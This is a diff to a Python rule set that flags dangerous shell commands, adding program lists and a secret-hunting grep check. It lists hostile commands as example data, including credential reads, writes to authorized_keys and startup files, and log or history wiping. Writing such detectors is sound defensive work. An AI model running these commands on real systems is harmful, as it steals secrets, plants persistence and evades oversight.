@@ -13,6 +13,10 @@ if TYPE_CHECKING:
 
     from ..commands import Command
 
+WRITERS = (
+    "cp mv install ln gcp rsync scp unzip tee sponge touch truncate mkdir nano vim vi emacs ex ed mknod mkfifo dd sed gsed perl ruby patch awk"
+    " gawk curl wget aria2c gpg openssl sort gcc cc go tar bsdtar git find gfind"
+)
 _INPLACE = frozenset(("sed", "gsed", "perl", "ruby", "ex", "ed", "patch", "awk", "gawk"))
 
 
@@ -50,6 +54,8 @@ def written_paths(command: Command) -> Iterator[str]:
 @rule(
     "write-system-file",
     "writes to a file of the operating system",
+    programs=WRITERS,
+    everywhere=True,
     dangerous=("echo x > /etc/hosts", "echo x | sudo tee -a /etc/hosts", "sed -i s/a/b/ /etc/ssh/sshd_config", "cp evil /usr/bin/ls", "mv x /bin/sh",
                "ln -sf /tmp/x /usr/bin/python", "curl -o /usr/local/bin/x http://h/x", "tar xzf a.tgz -C /", "cat > /etc/cron.d/x <<< y",
                "dd if=x of=/boot/vmlinuz", "install -m 755 x /usr/sbin/", "echo 1 > /proc/sys/net/ipv4/ip_forward", ": > /var/log/syslog",
@@ -64,6 +70,8 @@ def writes_system_file(command: Command) -> bool:
 @rule(
     "write-startup-file",
     "writes to a file that runs by itself later, or lets somebody in",
+    programs=WRITERS,
+    everywhere=True,
     dangerous=("echo 'alias ls=x' >> ~/.bashrc", "cat key >> ~/.ssh/authorized_keys", "cp x ~/.config/autostart/x.desktop", "tee -a ~/.zshrc < x",
                "echo x > .git/hooks/pre-commit", "sed -i s/a/b/ ~/.profile", "ssh h 'cat >> ~/.ssh/authorized_keys'", "cp evil.service ~/.config/systemd/user/"),
     benign=("cat ~/.bashrc", "source ~/.bashrc", "grep PATH ~/.profile", "echo x > bashrc.txt", "ls .git/hooks", "cp ~/.bashrc backup.txt"),
@@ -75,6 +83,8 @@ def writes_startup_file(command: Command) -> bool:
 @rule(
     "write-credential-file",
     "overwrites a file that holds credentials",
+    programs=WRITERS,
+    everywhere=True,
     dangerous=("echo x > ~/.ssh/id_rsa", "cp x ~/.aws/credentials", "echo x > ~/.netrc", "tee ~/.kube/config < x"),
     benign=("cp .env.example .env", "echo PORT=80 >> .env", "ssh-keygen -t ed25519 -f ./key"),
 )
@@ -82,11 +92,12 @@ def writes_credential_file(command: Command) -> bool:
     return any(paths.is_credential(path) and path.startswith(("~", "/")) and not path.endswith(".env") for path in written_paths(command))
 
 
-_READERS = frozenset(
+READERS = (
     "cat less more head tail tac nl bat view strings xxd od hexdump base64 base32 cp mv scp rsync tar zip 7z gzip bzip2 grep egrep fgrep rg ag"
-    " awk gawk sed cut sort uniq diff cmp tee openssl gpg curl wget nc python jq yq paste rev tr dd ln install pbcopy xclip column fold"
-    " nano vim vi emacs split csplit git_ rclone aws gsutil sqlite3 john hashcat unshadow busybox read mapfile source_ wc_ ftp sftp rcp".split()
+    " awk gawk sed cut sort uniq diff cmp tee openssl gpg curl wget nc jq yq paste rev tr dd ln install pbcopy xclip column fold"
+    " nano vim vi emacs split csplit git_ rclone aws gsutil sqlite3 john hashcat unshadow busybox read mapfile source_ wc_ ftp sftp rcp"
 )
+_READERS = frozenset(READERS.split())
 _PATTERN_FIRST = frozenset(("grep", "egrep", "fgrep", "rg", "ag", "sed", "awk", "gawk", "jq", "yq", "tr"))
 
 
@@ -103,8 +114,8 @@ def read_paths(command: Command) -> Iterator[str]:
         words = words[1:]
     elif name in ("cp", "mv", "ln", "install") and len(words) > 1:
         words = words[:-1]
-    elif name in ("scp", "rsync", "rclone", "aws", "curl", "wget"):
-        keys = {value.text for value in command.values("-i", "--key", "--cert", "-E", "--cacert", "-e", "--netrc-file", "--env-file", "-o", "-O")}
+    elif name in ("scp", "rsync", "rclone", "aws", "curl", "wget", "openssl"):
+        keys = {value.text for value in command.values("-i", "--key", "-key", "-inkey", "-signkey", "-CAkey", "-out", "-keyout", "--cert", "-E", "--cacert", "-e", "--netrc-file", "--env-file", "-o", "-O")}
         words = [word for word in words if word.text not in keys]
     for word in words:
         text = word.text
@@ -112,7 +123,7 @@ def read_paths(command: Command) -> Iterator[str]:
             text = text[3:] if text.startswith("if=") else ""
         elif "@" in text and name in ("curl", "http"):
             text = text.rsplit("@", 1)[1].split(";", 1)[0]
-        if text and ":" not in text[:1]:
+        if text and (" " not in text or text.startswith(("/", "~", "."))):
             yield paths.normalise(text, command.cwd)
     if name in ("openssl", "gpg", "curl", "tar"):
         yield from map(command.path, command.values("-in", "-T", "--upload-file"))
@@ -121,14 +132,27 @@ def read_paths(command: Command) -> Iterator[str]:
 @rule(
     "read-credentials",
     "reads credentials: keys, tokens or passwords",
+    programs=READERS,
+    everywhere=True,
     dangerous=("cat ~/.ssh/id_rsa", "cp ~/.aws/credentials /tmp", "grep KEY .env", "sudo cat /etc/shadow", "base64 ~/.ssh/id_ed25519", "cat ~/.netrc",
                "tar czf x.tgz ~/.ssh", "cat /proc/self/environ", "less ~/.kube/config", "cat .env", "cat ~/.git-credentials", "while read l; do echo $l; done < ~/.pgpass",
-               "head ~/.docker/config.json", "strings ~/.gnupg/secring.gpg", "cat config/secrets.yml", "cat /home/bob/.ssh/id_rsa"),
+               "head ~/.docker/config.json", "strings ~/.gnupg/secring.gpg", "cat config/secrets.yml", "grep -r password ~/.config", "cat /home/bob/.ssh/id_rsa"),
     benign=("cat ~/.ssh/id_rsa.pub", "ls -la ~/.ssh", "cat .env.example", "ssh -i ~/.ssh/id_rsa host", "chmod 600 ~/.ssh/id_rsa", "cat /etc/passwd", "ssh-add ~/.ssh/id_rsa",
             "cat ~/.ssh/config", "scp -i ~/.ssh/id_rsa a.txt h:", "grep -r id_rsa docs", "cat ~/.ssh/known_hosts", "source .env", "test -f ~/.aws/credentials", "cp .env.example .env"),
 )  # fmt: skip
 def reads_credentials(command: Command) -> bool:
+    if command.name in ("grep", "egrep", "rg", "ag") and _hunts_for_secrets(command):
+        return True
     return any(paths.is_credential(path) for path in read_paths(command))
+
+
+def _hunts_for_secrets(command: Command) -> bool:
+    words = command.operands
+    return (
+        len(words) > 1
+        and bool(re.search(r"(?i)passw|secret|api_?key|token|BEGIN .*PRIVATE", words[0].text))
+        and any(path in ("/", "~", "/etc", "/home", "/var") or path.startswith("~/.") for path in map(command.path, words[1:]))
+    )
 
 
 @rule(
@@ -171,6 +195,8 @@ def reveals_secrets(command: Command) -> bool:
 @rule(
     "cover-tracks",
     "erases history or logs",
+    programs="history unset journalctl set auditctl dmesg logrotate rm shred unlink truncate ln",
+    everywhere=True,
     dangerous=("history -c", "unset HISTFILE", "export HISTFILE=/dev/null", "rm ~/.bash_history", "cat /dev/null > ~/.bash_history", "journalctl --vacuum-time=1s",
                "set +o history", "HISTSIZE=0", "ln -sf /dev/null ~/.bash_history", "auditctl -e 0", "truncate -s 0 /var/log/auth.log", "history -cw", "logrotate -f /etc/logrotate.conf", "dmesg -C"),
     benign=("history", "history | tail", "journalctl -u nginx", "tail /var/log/syslog", "dmesg | tail", "HISTSIZE=10000"),
